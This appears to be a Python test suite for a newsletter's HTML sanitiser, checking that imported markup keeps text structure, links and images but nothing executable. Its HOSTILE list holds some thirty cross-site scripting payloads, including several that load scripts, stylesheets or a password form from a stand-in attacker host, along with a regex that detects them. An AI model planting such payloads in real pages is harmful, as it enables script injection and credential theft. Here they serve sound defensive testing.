"""What comes in as HTML leaves as text structure, links and pictures, and nothing that runs."""

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsletter.domain.drafts import Paragraph, UnusableError
from newsletter.ingest.markup import (
    LONGEST_MARKUP,
    paragraph_of_text,
    paragraphs_of_html,
    safe_url,
    sanitise,
    take_lead_image,
    text_of_markup,
)

BASE = "https://example.org/news/1"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><p>svg</p></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<div id=x class=y onclick=alert(1)>x</div>",
    "<a href=\"https://example.org/\" onmouseover='alert(1)'>x</a>",
    "<<script>alert(1)//<</script>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<?php echo 1 ?><p>x</p>",
    "</body></html><script>alert(1)</script>",
]
FORBIDDEN = re.compile(
    r"<\s*/?\s*(?:script|style|svg|math|iframe|object|embed|form|input|link|meta|base|template|noscript)\b"
    r"|<[^>]*\son\w+\s*=|<[^>]*\s(?:style|class|id|srcdoc)\s*=|(?:href|src)\s*=\s*[\"']?\s*(?:javascript|data|vbscript):",
    re.IGNORECASE,
)


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_runs_comes_in(markup):
    assert not FORBIDDEN.search(sanitise(markup, BASE))


FRAGMENTS = st.lists(
    st.one_of(
        st.sampled_from(HOSTILE),
        st.sampled_from(["<p>", "</p>", "<div>", "</div>", "<b>", "</b>", "<ul><li>", "</ul>", "<table><tr><td>",
                         "</table>", "<a href='/x'>", "</a>", "<br>", "<blockquote>", "<h1>", "<figure><img src=/i>",
                         "<figcaption>", "</figure>", "<pre>", "</pre>", "<!--", "-->", "<![CDATA[", "&lt;", "&#0;",
                         "&amp;amp;", "<hr>", "<span lang=ru>", "</span>", "<img alt=' a  b ' src=https://e.org/i>"]),
        st.text(st.characters(codec=None), max_size=20),
    ),
    max_size=12,
).map("".join)  # fmt: skip


@given(FRAGMENTS)
def test_any_markup_leaves_clean_and_does_not_change_again(markup):
    once = sanitise(markup, BASE)

    assert not FORBIDDEN.search(once)
    assert not any(unicodedata.category(each) in ("Cc", "Cs") for each in once.replace("\n", ""))
    assert once == sanitise(once)


@pytest.mark.parametrize(
    ("markup", "kept"),
    [
        pytest.param("<p>One</p><p>Two</p>", ["<p>One</p>", "<p>Two</p>"], id="paragraphs"),
        pytest.param("One<br><b>two</b><p>three", ["<p>One<br><b>two</b></p>", "<p>three</p>"], id="loose text"),
        pytest.param("<div><div>a</div><section>b</section></div>", ["<p>a</p>", "<p>b</p>"], id="containers"),
        pytest.param("<h1>A</h1><h3>B</h3>", ["<h2>A</h2>", "<h3>B</h3>"], id="one title is enough"),
        pytest.param("<p>&nbsp;</p><p></p>\n<p>x</p>", ["<p>x</p>"], id="empty paragraphs"),
        pytest.param("<p>x</p><!-- no --><p>y</p>", ["<p>x</p>", "<p>y</p>"], id="comments"),
        pytest.param("<p>Cafe\u0301  <i>a</i> b</p>", ["<p>Caf\u00e9 <i>a</i> b</p>"], id="words are normalised"),
        pytest.param("<p lang='ru' dir=ltr>да</p>", ['<p lang="ru" dir="ltr">да</p>'], id="language stays"),
        pytest.param("<p><a href='../2'>x</a></p>", ['<p><a href="https://example.org/2">x</a></p>'], id="absolute"),
        pytest.param("<a href='mailto:a@b.org'>x</a> <a href='tel:+996 700'>y</a>",
                     ['<p><a href="mailto:a@b.org">x</a> <a href="tel:+996700">y</a></p>'], id="mail and telephone"),
        pytest.param("<figure><img src=/i.png width=10 height=x loading=lazy><figcaption>C</figcaption></figure>",
                     [('<figure><img src="https://example.org/i.png" width="10" alt="">'
                      "<figcaption>C</figcaption></figure>")],
                     id="figure"),
        pytest.param("<p>a</p><iframe src='https://video.example/v/1'></iframe>",
                     ["<p>a</p>", '<p><a href="https://video.example/v/1">https://video.example/v/1</a></p>'],
                     id="a player becomes a link"),
        pytest.param("<video><source src=/v.mp4></video>",
                     ['<p><a href="https://example.org/v.mp4">https://example.org/v.mp4</a></p>'], id="video source"),
        pytest.param("x</body></html>y", ["<p>xy</p>"], id="text after the end"),
        pytest.param("", [], id="nothing"),
        pytest.param("<script>x</script>", [], id="nothing left"),
    ],
)  # fmt: skip
def test_paragraphs(markup, kept):
    assert kept == [each.html for each in paragraphs_of_html(markup, BASE)]


def test_without_a_base_a_relative_address_is_dropped_and_its_text_stays():
    assert "<p><a>x</a></p>" == sanitise("<a href='/x'>x</a><img src=/i.png>")


@pytest.mark.parametrize("element", ["div", "b", "blockquote", "span", "table"])
def test_markup_nested_without_end_is_refused_at_once(element):
    """An HTML5 parser takes minutes over this; a depth no article has is refused instead."""
    with pytest.raises(UnusableError, match="nested"):
        paragraphs_of_html(f"<{element}>" * (LONGEST_MARKUP // 20) + "x")


def test_markup_without_end_is_refused():
    with pytest.raises(UnusableError, match="500,000"):
        paragraphs_of_html("x" * (LONGEST_MARKUP + 1))


def test_plain_text_is_shown_as_it_is():
    shown = Paragraph("<p>1 &lt; 2 &amp; &lt;b&gt;no&lt;/b&gt;</p>", "1 < 2 & <b>no</b>")

    assert shown == paragraph_of_text("1 < 2  & <b>no</b>")


def test_a_title_in_markup_is_its_words():
    assert "Fish & chips’ day" == text_of_markup("<b>Fish</b> &amp; chips&#8217; <script>x</script>day")


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://example.org/a?b=c#d", "https://example.org/a?b=c#d"),
        (" https://example.org/\n", "https://example.org/"),
        ("/a", "https://example.org/a"),
        ("//other.example/a", "https://other.example/a"),
        ("javascript:alert(1)", None),
        ("mailto:a@example.org", None),
        ("https://user:secret@example.org/", None),
        ("http://[::1", None),
        ("https://example.org/a b", None),
        ('https://example.org/"><script>', None),
        ("https://example.org/" + "a" * 3000, None),
        (None, None),
        (7, None),
    ],
)
def test_safe_url(url, kept):
    assert kept == safe_url(url, BASE)


class TestLeadImage:
    def test_an_image_that_opens_the_body_is_taken_out_of_it(self):
        body = paragraphs_of_html(
            f"<figure><img src='{BASE}.png' alt=A width=5><figcaption>C</figcaption></figure><p>x</p>"
        )
        lead, rest = take_lead_image(body)

        assert lead is not None
        assert (f"{BASE}.png", "A", "C", 5) == (lead.url, lead.alt, lead.caption, lead.width)
        assert ["<p>x</p>"] == [each.html for each in rest]

    @pytest.mark.parametrize(
        "markup",
        [
            "<p>x</p><p><img src=https://e.org/i.png></p>",
            "<p><img src=https://e.org/i.png> with words</p>",
            "<p><img src=https://e.org/1.png><img src=https://e.org/2.png></p>",
            "<p><a href=https://e.org><img src=https://e.org/i.png></a></p>",
            "",
        ],
    )
    def test_an_image_among_words_stays(self, markup):
        body = paragraphs_of_html(markup)

        assert (None, body) == take_lead_image(body)
